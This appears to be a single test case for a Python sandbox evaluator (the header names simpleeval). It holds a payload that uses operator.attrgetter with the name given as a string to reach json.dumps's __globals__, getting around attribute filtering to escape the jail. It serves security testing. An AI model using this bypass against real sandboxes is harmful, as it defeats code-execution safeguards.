# aim: walk to a function's globals by functions of a harmless module
# mechanism: operator.attrgetter and operator.methodcaller, which take names as texts
# source: simpleeval, "Security bump" of September 2026: functions of operator
# language: builtins
# reason: they obey the same table as attributes
# jail: process
# plain: loot
import json
import operator
loot(operator.attrgetter("dumps.__globals__")(json))
